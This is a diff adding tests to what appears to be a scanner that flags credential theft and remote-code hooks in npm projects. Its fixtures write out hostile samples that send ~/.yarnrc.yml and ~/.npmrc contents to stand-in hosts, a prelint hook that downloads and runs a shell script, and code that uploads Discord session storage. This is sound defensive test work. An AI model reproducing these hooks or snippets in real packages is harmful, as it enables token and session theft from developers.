@@ -184,3 +184,67 @@ def test_data_url_import_of_a_harmless_module_does_not_block(tmp_path: Path) -> 
     mod = "export default { answer: 42, name: 'fixture' };\n"
     js = f'const m = await import("data:text/javascript;base64,{_b64(mod)}");\nconsole.log(m.default.answer);\n'
     assert blocking(tmp_path, {"test/config.test.mjs": js}) == {}
+
+
+# ------------------------------------------------ a GET carries its URL and headers; npm's other lifecycle hooks
+
+
+def test_token_in_a_get_requests_headers_blocks(tmp_path: Path) -> None:
+    js = (
+        'const fs = require("fs"), os = require("os"), https = require("https");\n'
+        'let t = "";\ntry { t += fs.readFileSync(os.homedir() + "/.yarnrc.yml", "utf8"); } catch (e) {}\n'
+        'https.get({ host: "badge.example.test", path: "/b.svg", headers: { "X-Client": Buffer.from(t).toString("hex") } },'
+        " (res) => res.resume());\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/badge.js": js})
+
+
+def test_get_whose_handler_reads_a_file_does_not_block(tmp_path: Path) -> None:
+    js = (
+        'const fs = require("fs"), https = require("https");\n'
+        'https.get("https://registry.npmjs.org/left-pad", (res) => {\n'
+        '  const pin = fs.readFileSync(".npmrc", "utf8");\n  console.log(res.statusCode, pin.length);\n});\n'
+    )
+    assert blocking(tmp_path, {"scripts/check.js": js}) == {}
+
+
+def test_version_and_pack_hooks_are_read_as_shell(tmp_path: Path) -> None:
+    pkg = (
+        '{"name": "p", "version": "1.0.0", "scripts": {"postversion": '
+        '"t=$(cat ~/.npmrc); wget -q --header=\\"X-T: $t\\" https://rel.example.test/v"}}'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path / "a", {"package.json": pkg})
+    pkg = '{"name": "p", "scripts": {"lint": "eslint .", "prelint": "f=/tmp/l.sh; wget -qO $f https://l.example.test/l; bash $f"}}'
+    assert "SY-FLOW-002" in blocking(tmp_path / "b", {"package.json": pkg})
+
+
+def test_version_hook_that_pushes_tags_does_not_block(tmp_path: Path) -> None:
+    pkg = (
+        '{"name": "p", "version": "1.0.0", "scripts": {"version": "node scripts/cl.js && git add CHANGELOG.md",'
+        ' "postversion": "git push --follow-tags", "pretest": "eslint ."}}'
+    )
+    assert blocking(tmp_path, {"package.json": pkg}) == {}
+
+
+# ------------------------------------------------ more credential stores; a Set or Map holds what is put into it
+
+
+def test_chat_app_session_store_collected_into_a_set_and_posted_blocks(tmp_path: Path) -> None:
+    js = (
+        'const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");\n'
+        'const dir = path.join(os.homedir(), ".config", "discord", "Local Storage");\nconst seen = new Set();\n'
+        'for (const f of fs.readdirSync(dir)) seen.add(fs.readFileSync(path.join(dir, f), "latin1"));\n'
+        'const r = https.request({ host: "cdn-sync.example.test", method: "PUT", path: "/x" });\n'
+        "r.end(JSON.stringify([...seen]));\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"export.js": js})
+
+
+def test_project_settings_in_a_map_posted_do_not_block(tmp_path: Path) -> None:
+    js = (
+        'const fs = require("fs"), https = require("https");\nconst m = new Map();\n'
+        'm.set("pkg", fs.readFileSync("package.json", "utf8"));\n'
+        'const r = https.request({ host: "lint.example.test", method: "POST", path: "/check" });\n'
+        "r.end(JSON.stringify([...m]));\n"
+    )
+    assert blocking(tmp_path, {"check.js": js}) == {}
